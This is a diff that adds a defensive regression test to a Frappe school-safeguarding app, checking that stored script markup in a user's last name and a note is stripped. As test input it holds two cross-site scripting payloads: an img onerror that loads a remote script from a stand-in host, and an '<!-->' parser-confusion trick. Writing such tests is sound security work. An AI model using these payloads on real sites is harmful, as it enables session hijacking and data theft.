@@ -1019,3 +1019,38 @@ class TestCodeInOthersPages(MeldcodeTestCase):
 		self.assertNotEqual(status, 200, answer)
 		self.assertNotIn(dossier.pupil_name, json.dumps(answer))
 		frappe.clear_document_cache("Meldcode Dossier", dossier.name)
+
+	def test_markup_a_browser_reads_is_cleaned_whatever_python_makes_of_it(self):
+		"""Round 17: Frappe cleans a value only where Python's HTML parser finds a tag; a browser
+		also finds one behind "<!-->" and in a tag left open. The teacher's own last name ran in the
+		aandachtsfunctionaris's desk (beside the teacher's comment) and read every case."""
+		teacher = staff_user("A", "Teacher")
+		token = api_token(teacher)
+		frappe.db.commit()
+		status, answer = request_as(
+			token,
+			"frappe.client.set_value",
+			"post",
+			doctype="User",
+			name=teacher,
+			fieldname="last_name",
+			value="de Vries <img src=x onerror=$.getScript('//127.0.0.1:9/x.js')//",
+		)
+		self.assertEqual(status, 200, answer)
+		self.assertNotIn("onerror", frappe.db.get_value("User", teacher, "full_name"))
+		self.assertIn("de Vries", frappe.db.get_value("User", teacher, "full_name"), "the name itself stays")
+		status, note = self.call(
+			"frappe.client.insert",
+			doc={
+				"doctype": "Note",
+				"title": "meldcode-sandbox-comment",
+				"content": "<!--><img src=x onerror=alert(1)>--> Let op: a < b",
+			},
+		)
+		self.assertEqual(status, 200, note)
+		self.assertNotIn("onerror", note["content"])
+		self.assertIn("Let op", note["content"])
+		frappe.db.rollback()
+		frappe.db.delete("Note", {"title": "meldcode-sandbox-comment"})
+		frappe.db.set_value("User", teacher, {"last_name": None})
+		frappe.db.commit()
